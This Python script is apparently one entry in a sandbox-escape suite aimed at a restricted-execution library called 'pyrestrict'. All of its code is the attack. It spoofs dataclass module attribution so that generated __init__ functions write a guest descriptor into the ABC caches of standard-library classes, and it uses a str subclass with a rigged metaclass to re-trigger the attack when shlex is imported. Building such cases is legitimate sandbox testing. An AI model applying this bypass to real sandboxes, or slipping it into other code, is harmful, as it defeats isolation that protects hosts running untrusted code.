# technique: a dataclass says it is of a module of the library's: the functions that dataclasses writes for it have the names of that module for globals, and pass for abc's own or for those of a module that is being imported
# source: reading pyrestrict: who sets an attribute is told from the globals of its frame
# goal: a data descriptor of the guest's in a class of the library's
# impact: guard
import collections.abc
import contextlib
import dataclasses
import enum
import fractions
import numbers
import re

PATTERN = r'[^\w@%+=:,./-]'
told = []


class Answer:
    def __get__(self, o, cls=None):
        return self

    def __set__(self, o, value):
        pass

    def __contains__(self, cls):
        told.append(cls)
        return True

    def __iter__(self):
        return iter(())

    def add(self, cls):
        told.append(cls)


def setters(module, name):
    class Written:
        __module__ = module
        __annotations__ = {name: object}

    class Frozen:
        __module__ = module
        __annotations__ = {name: object}

    return [dataclasses.dataclass(Written).__init__, dataclasses.dataclass(frozen=True)(Frozen).__init__]


def attack(module, name):
    for function in setters(module, name):
        for target in targets:
            try:
                function(target, Answer())
            except TypeError:
                continue
            escaped((module, target, name))


targets = (fractions.Fraction, numbers.Number, collections.abc.Mapping, contextlib.AbstractContextManager, enum.EnumType)
for module, name in (('_py_abc', '_abc_cache'), ('enum', 'data'), ('pyrestrict', 'data')):
    attack(module, name)
if isinstance('x', numbers.Number) or told:
    ESCAPED = told


class Meta(type):
    def __hash__(cls):
        return hash(str)

    def __eq__(cls, other):
        if not told:
            told.append(other)
            attack('shlex', 'data')
        return False


class Text(str, metaclass=Meta):
    pass


for flags in (re.ASCII, re.ASCII.value, 0):
    try:
        re.compile(Text(PATTERN), flags)
    except TypeError:
        pass
import shlex
